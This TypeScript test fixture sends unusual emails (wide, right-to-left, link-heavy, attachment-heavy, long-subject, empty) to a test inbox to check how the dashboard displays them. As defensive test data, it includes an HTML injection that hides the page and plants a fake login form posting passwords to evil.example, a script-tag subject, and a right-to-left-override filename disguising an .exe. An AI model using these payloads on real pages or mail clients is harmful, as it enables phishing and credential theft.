// Messages that are difficult to show: very wide, very long, from right to left, without content, or with many parts.

import { ok } from '../support/answers.ts'
import type { TestApp } from '../support/app.ts'
import { Person } from '../support/person.ts'
import { until } from '../support/test-clock.ts'

/** A message, as fields of a send request or as the raw message. */
interface UnusualMail {
  readonly name: string
  readonly fields: object | string
}

const FROM = 'shop@shop.example'
const WORD = 'Donaudampfschifffahrtsgesellschaft'
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const times = (count: number, write: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => write(at)).join('')

/** Covers the page, hides all of its elements, and ends elements that the page might have opened around the message. */
const ATTACK = `</style></div></main></iframe><style>*{display:none!important}body::before{content:'You are logged out';position:fixed;inset:0;background:#fff;z-index:2147483647;display:block!important}</style><script>document.body.textContent='x'</script><base href="https://evil.example/"><form action="https://evil.example/"><input name="password"><button>Log in</button></form>`

/** Returns the messages. */
function unusualMails(): UnusualMail[] {
  const to = [{ email: 'ann@receiver.example', name: 'Ann' }]
  const mail = (name: string, subject: string, fields: object): UnusualMail => ({
    name,
    fields: { from: FROM, to, subject, ...fields },
  })
  return [
    mail('wide HTML', 'Three thousand pixels', {
      html: `<table width="3000" style="width:3000px"><tr><td>left</td><td align="right">right</td></tr></table>`,
    }),
    mail('from right to left', 'رسالة تجريبية عن طلبك رقم 4711', {
      from_name: 'متجر الشاي',
      to: [{ email: 'ann@receiver.example', name: 'آن' }],
      html: '<html dir="rtl"><p>مرحبا، رمز الدخول هو <b>482913</b></p></html>',
      text: 'مرحبا، رمز الدخول هو 482913',
      attachments: [{ filename: 'invoice\u202Efdp.exe', content: base64('x') }],
    }),
    mail('without a text part', 'Only HTML', { html: '<h1>Only HTML</h1>' }),
    mail('without an HTML part', 'Only text', { text: `${'x'.repeat(2_000)}\n${WORD} `.repeat(3) }),
    mail('two hundred links', 'Two hundred links', {
      html: times(
        200,
        (at) =>
          `<a href="https://shop.example/items/${'segment/'.repeat(at % 20)}${at}?token=${'a'.repeat(at)}">${at}</a> `,
      ),
      text: 'x',
    }),
    mail('fifty attachments', 'Fifty attachments', {
      text: 'x',
      attachments: Array.from({ length: 50 }, (_, at) => ({
        filename: `${at} ${at % 2 === 0 ? WORD.repeat(5) : `${WORD} `.repeat(5)}.pdf`,
        content: base64('%PDF-1.7'),
      })),
    }),
    mail('a long subject of words', 'A subject of many words. '.repeat(36), { text: 'x' }),
    mail('a long subject of one word', WORD.repeat(27).slice(0, 900), { text: 'x' }),
    mail('an attack on the page', '</h2><script>alert(1)</script>', { html: ATTACK, text: ATTACK }),
    mail('many recipients and codes', 'Many recipients', {
      to: Array.from({ length: 50 }, (_, at) => ({
        email: `${'recipient'.repeat(5)}-${at}@receiver.example`,
        name: at % 2 === 0 ? WORD : `${WORD} ${at}`,
      })),
      text: times(12, (at) => `Your code is ${482_900 + at}.\n`),
      tags: Array.from({ length: 10 }, (_, at) => `${at}-${'tag'.repeat(15)}`),
    }),
    {
      name: 'an empty message',
      fields: `From: ${FROM}\r\nTo: ann@receiver.example\r\n\r\n`,
    },
  ]
}

/** Sends the messages to a new test inbox; returns the dashboard paths of the inbox and of each message. */
export async function fillUnusual(app: TestApp) {
  const owner = await Person.loggedIn(app)
  const { inbox_id } = await ok(owner.call('POST', '/api/inboxes', { name: 'Unusual forms' }), 201)
  const domains = [app.playground.domain]
  const wanted = { kind: 'sending', name: 'Unusual forms', mode: 'test', domains, inbox_id }
  const { key } = await ok(owner.call('POST', '/api/keys', wanted), 201)
  const authorization = `Bearer ${key}`
  const paths: { readonly name: string; readonly path: string }[] = []
  for (const { name, fields } of unusualMails()) {
    const { message_id: id } =
      typeof fields === 'string'
        ? await ok(
            app.call('POST', '/v1/messages/raw', fields, { authorization, 'content-type': 'message/rfc822' }),
            202,
          )
        : await ok(app.call('POST', '/v1/messages', fields, { authorization }), 202)
    const mail = await until(`${name} is in the inbox`, async () => {
      const { data } = await ok(owner.call('GET', `/api/inboxes/${inbox_id}/messages`), 200)
      return data.find((one: { message_id: string }) => one.message_id === id)
    })
    paths.push({ name, path: `/inboxes/${inbox_id}/${mail.mail_id}` })
  }
  return { inbox: `/inboxes/${inbox_id}`, paths }
}
